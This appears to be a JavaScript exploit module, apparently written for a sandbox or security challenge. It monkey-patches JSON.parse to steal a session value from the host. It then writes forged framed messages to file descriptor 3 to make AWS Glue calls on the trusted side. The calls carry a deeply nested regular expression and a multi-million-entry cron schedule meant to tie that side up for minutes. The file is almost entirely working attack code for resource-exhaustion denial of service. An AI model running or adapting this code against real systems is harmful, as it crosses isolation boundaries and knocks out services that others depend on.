// Asks services of other sections for what takes the trusted side minutes in one piece.
import { writeSync } from 'node:fs'

function write(descriptor, bytes) {
  for (let sent = 0; sent < bytes.length; ) {
    try {
      sent += writeSync(descriptor, bytes, sent)
    } catch (error) {
      if (error.code !== 'EAGAIN') throw error
    }
  }
}

const { parse, stringify } = JSON

let asked = { s: 0 }
JSON.parse = (text, ...rest) => {
  const value = parse(text, ...rest)
  if (value?.t === 'call') asked = value
  return value
}

let id = 1
function ask(clientName, operation, input) {
  const json = Buffer.from(stringify({ t: 'aws', id: id++, client: null, clientName, operation, input, s: asked.s }))
  const head = Buffer.alloc(8)
  head.writeUInt32BE(4 + json.length, 0)
  head.writeUInt32BE(json.length, 4)
  write(3, Buffer.concat([head, json]))
}

const NESTED = `${'('.repeat(2_500)}a${'{1,999})'.repeat(2_500)}`
const SCHEDULE = `cron(${'0,'.repeat(3_000_000)}0 0 * * ? *)`

export async function claim() {
  ask('GlueClient', 'CreateDatabase', { DatabaseInput: { Name: 'd' } })
  ask('GlueClient', 'CreateTable', { DatabaseName: 'd', TableInput: { Name: 't' } })
  ask('GlueClient', 'GetTables', { DatabaseName: 'd', Expression: NESTED })
  const trigger = { Name: 't', Type: 'SCHEDULED', Schedule: SCHEDULE, Actions: [{ JobName: 'j' }] }
  ask('GlueClient', 'CreateTrigger', trigger)
  await new Promise((resolve) => setTimeout(resolve, 10))
  return true
}

export const claimWithin = () => true
